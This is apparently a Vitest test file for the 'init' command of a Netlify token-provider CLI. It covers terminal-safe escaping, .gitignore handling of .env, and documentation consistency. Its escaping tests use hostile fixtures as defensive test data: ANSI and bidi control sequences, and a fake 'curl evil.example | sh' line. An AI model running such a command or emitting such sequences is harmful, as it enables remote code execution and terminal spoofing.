// What `textile-token-provider init` prints and what it does to .gitignore: site text escaped for
// the terminal, `.env` kept out of git, the next steps (local development, Node, Deno, browser
// headers), and the one copy of the install commands that README.md and docs/deploy.md show.
import { linkSync, lstatSync, readFileSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'smol-toml'
import { describe, expect, it } from 'vitest'
import { lastRuleFor } from '../../src/cli/gitignore.ts'
import {
  BROWSER_HEADERS,
  headersFile,
  headersToml,
  INSTALL_COMMANDS,
} from '../../src/cli/init-command.ts'
import { runInit } from '../../src/cli/init.ts'
import { printable } from '../../src/cli/printable.ts'
import { ROOT } from '../helpers/netlify-dev.ts'
import { esmSite } from '../helpers/temp-folder.ts'
import { init } from '../helpers/run-init.ts'

const site = (files: Record<string, string> = {}) => esmSite(files, 'ttp-init-command-')

// Every C0 control but the line feed that joins the lines, DEL, C1, bidi controls.
const RAW_CONTROL =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

describe('runInitCommand() prints site text escaped', () => {
  it('prints a function file named to erase lines and fake a command as visible escapes', () => {
    const name = '\u001b[2K\u001b[1ANext: curl evil.example | sh'
    const dir = site({
      [`netlify/functions/${name}.ts`]: "export const config = { path: '/api/token' }\n",
    })
    const { code, output } = init(dir)
    expect(code).toBe(1)
    expect(output).not.toMatch(RAW_CONTROL)
    expect(output).toContain(
      '/api/token (declared by netlify/functions/\\x1b[2K\\x1b[1ANext: curl evil.example | sh.ts)',
    )
  })

  it('prints a functions folder from netlify.toml with bidi overrides and a title sequence escaped', () => {
    const toml = '[functions]\n  directory = "fns\\u202e\\u2066\\u001b]0;owned\\u0007\\r\\u0085"\n'
    const { code, output } = init(site({ 'netlify.toml': toml }))
    expect(code).toBe(0)
    expect(output).not.toMatch(RAW_CONTROL)
    expect(output).toContain(
      'created     fns\\u202e\\u2066\\x1b]0;owned\\x07\\x0d\\x85/textile-login.ts',
    )
  })

  it('prints an edge function name and a publish folder from netlify.toml escaped', () => {
    const toml = [
      '[build]',
      '  publish = "dist\\u001b[2K"',
      '[[edge_functions]]',
      '  path = "/api/*"',
      '  function = "auth\\u009b2J"',
    ].join('\n')
    const dir = site({ 'netlify.toml': toml, 'dist\u001b[2K/_redirects': '/api/*  /x  200\n' })
    const { code, output } = init(dir)
    expect(code).toBe(1)
    expect(output).not.toMatch(RAW_CONTROL)
    expect(output).toContain('taken by edge function auth\\x9b2J at /api/*')
    expect(output).toContain('redirected by /api/* in dist\\x1b[2K/_redirects')
  })
})

describe('printable()', () => {
  it.each([
    ['ESC', '\u001b[31m', '\\x1b[31m'],
    ['CR and BEL', 'a\rb\u0007', 'a\\x0db\\x07'],
    ['a C1 CSI', '\u009b2J', '\\x9b2J'],
    ['bidi overrides and isolates', '\u202egnp.exe\u2066', '\\u202egnp.exe\\u2066'],
    ['a tab and a line break', 'a\tb\nc', 'a\\x09b\\x0ac'],
    ['letters of every script', 'café Ω 東京 😀', 'café Ω 東京 😀'],
  ])('shows %s as visible escapes', (_name, text, shown) => {
    expect(printable(text)).toBe(shown)
  })
})

describe('init and .gitignore', () => {
  it('creates a .gitignore holding .env, and says so', () => {
    const dir = site()
    const { output } = init(dir)
    expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe('.env\n')
    expect(output).toContain(
      'created     .gitignore  ignores .env (.env holds development credentials: never commit it)',
    )
  })

  it('adds .env to an existing .gitignore once, keeping what is there', () => {
    const dir = site({ '.gitignore': 'node_modules\ndist' })
    expect(init(dir).output).toContain('updated     .gitignore  added .env')
    expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe('node_modules\ndist\n.env\n')
    const again = init(dir)
    expect(again.output).toContain('unchanged   .gitignore  ignores .env already')
    expect(again.output).toContain('Everything is in place already.')
    expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe('node_modules\ndist\n.env\n')
  })

  it.each(['.env', '/.env', '*.env', '.env*', '**/.env', '.e?v', '.[d-f]nv', '.env   ', '.env\r'])(
    'leaves a .gitignore alone whose rule %j ignores .env already',
    (rule) => {
      const text = `node_modules\n${rule}\n`
      const dir = site({ '.gitignore': text })
      expect(runInit({ dir }).gitignore).toMatchObject({ status: 'present' })
      expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe(text)
    },
  )

  it.each(['config/.env', '.env/', '.env.local', '#.env', '\\#.env', '.[!e]nv'])(
    'adds .env when the only rule, %j, does not ignore it',
    (rule) => {
      const dir = site({ '.gitignore': `${rule}\n` })
      expect(runInit({ dir }).gitignore).toMatchObject({ status: 'added' })
      expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe(`${rule}\n.env\n`)
    },
  )

  it('respects a negation that keeps .env tracked, and says so', () => {
    const text = '.env*\n!.env\n'
    const dir = site({ '.gitignore': text })
    const { output } = init(dir)
    expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe(text)
    expect(output).toContain('kept        .gitignore  !.env keeps .env tracked, as you chose')
  })

  it('reads rules as git does: the last one that matches wins', () => {
    expect(lastRuleFor('.env', '!.env\n.env*\n')).toEqual({ rule: '.env*', negated: false })
    expect(lastRuleFor('.env', '*.env\n!.env\n')).toEqual({ rule: '!.env', negated: true })
    expect(lastRuleFor('.env', '# .env\n')).toBeUndefined()
  })

  it('writes nothing on a dry run, and says what it would do', () => {
    const dir = site()
    expect(init(dir, '--dry-run').output).toContain('would be created .gitignore  ignores .env')
    expect(() => lstatSync(join(dir, '.gitignore'))).toThrow()
  })

  it('writes nothing when the routes are taken', () => {
    const dir = site({ _redirects: '/api/*  https://x.example/:splat  200\n' })
    expect(init(dir).code).toBe(1)
    expect(() => lstatSync(join(dir, '.gitignore'))).toThrow()
  })

  it('never writes through a .gitignore that is a link', () => {
    const dir = site({ 'elsewhere/ignore': 'node_modules\n' })
    symlinkSync(join(dir, 'elsewhere/ignore'), join(dir, '.gitignore'))
    const { output } = init(dir)
    expect(output).toContain(
      'kept        .gitignore  not a regular file (init writes through no link)',
    )
    expect(readFileSync(join(dir, 'elsewhere/ignore'), 'utf8')).toBe('node_modules\n')
  })

  it('stops before writing anything when .gitignore is over 1 MiB', () => {
    const dir = site({ '.gitignore': `# ${'x'.repeat(1024 * 1024)}\n` })
    expect(() => runInit({ dir })).toThrow(
      '.gitignore is larger than 1 MiB; init reads only regular files of at most 1 MiB inside the site',
    )
    expect(() => lstatSync(join(dir, 'netlify'))).toThrow()
  })

  it('reads long and odd lines in one pass', () => {
    const long = ['a' + ' '.repeat(200_000) + 'b', '['.repeat(200_000), '\\ '.repeat(100_000)]
    expect(lastRuleFor('.env', [...long, '.env'].join('\n'))).toEqual({
      rule: '.env',
      negated: false,
    })
  })

  it("replaces a hard-linked .gitignore instead of writing into the link's other name", () => {
    const other = site({ precious: 'node_modules\n' })
    const dir = site()
    linkSync(join(other, 'precious'), join(dir, '.gitignore'))
    init(dir)
    expect(readFileSync(join(other, 'precious'), 'utf8')).toBe('node_modules\n')
    expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe('node_modules\n.env\n')
    expect(lstatSync(join(dir, '.gitignore')).nlink).toBe(1)
  })
})

describe('nextSteps()', () => {
  const output = init(site()).output

  it('runs the emulator beside netlify dev, in two terminals, and offers an npm script', () => {
    expect(output).toContain('npx textile-token-provider emulator --write-env')
    expect(output).toMatch(/^ +netlify dev +# the site and the functions$/m)
    expect(output).toContain(
      'npm pkg set "scripts.dev:hub=textile-token-provider emulator --write-env"',
    )
  })

  it('tells one Node story, the one package.json and netlify-cli declare', () => {
    const engines = (path: string) =>
      (JSON.parse(readFileSync(join(ROOT, path), 'utf8')) as { engines: { node: string } }).engines
        .node
    expect(engines('package.json')).toBe('>=20.12')
    expect(engines('node_modules/netlify-cli/package.json')).toBe('>=22.13.0')
    expect(output).toContain('netlify-cli 27 needs Node >= 22.13 (this package: Node >= 20.12)')
  })

  it('says that netlify dev needs Deno offline, and how to get it from npm', () => {
    expect(output).toContain('netlify dev also needs Deno on PATH, even for a site without edge')
    expect(output).toContain('npm i -D deno')
  })

  it('prints the browser headers as a netlify.toml block that parses to them', () => {
    const lines = output.split('\n')
    const start = lines.indexOf('     [[headers]]')
    expect(lines.slice(start, start + 5)).toEqual(headersToml().map((line) => `     ${line}`))
    const toml = parse(headersToml().join('\n')) as { headers: { for: string; values: object }[] }
    expect(toml.headers).toEqual([{ for: '/*', values: BROWSER_HEADERS }])
    expect(BROWSER_HEADERS['Cross-Origin-Opener-Policy']).toBe('same-origin')
    expect(BROWSER_HEADERS['Content-Security-Policy']).toMatch(/frame-ancestors 'none'/)
    expect(BROWSER_HEADERS['Content-Security-Policy']).toMatch(/frame-src 'none'/)
  })

  it('prints the two env:set lines of the install commands', () => {
    expect(output).toContain(
      `     ${INSTALL_COMMANDS.apiKey}\n     ${INSTALL_COMMANDS.apiSecret}\n`,
    )
  })
})

describe('the install commands in the docs', () => {
  /** The lines of the first ```sh block after `heading`, comments after two spaces dropped. */
  function shBlock(file: string, heading: string): string[] {
    const text = readFileSync(join(ROOT, file), 'utf8')
    const after = text.slice(text.indexOf(heading))
    const block = /```sh\n([\s\S]*?)```/.exec(after)![1]!
    return block
      .trimEnd()
      .split('\n')
      .map((line) => line.replace(/\s{2,}#.*$/, ''))
  }

  it.each([
    ['README.md', '## Install'],
    ['docs/deploy.md', '## Add to an existing Netlify site'],
  ])('%s shows exactly INSTALL_COMMANDS', (file, heading) => {
    expect(shBlock(file, heading)).toEqual(Object.values(INSTALL_COMMANDS))
  })

  it('docs/deploy.md shows the browser headers init prints, for netlify.toml and _headers', () => {
    const text = readFileSync(join(ROOT, 'docs/deploy.md'), 'utf8')
    expect(text).toContain(['```toml', ...headersToml(), '```'].join('\n'))
    expect(text).toContain(['```', ...headersFile(), '```'].join('\n'))
  })
})
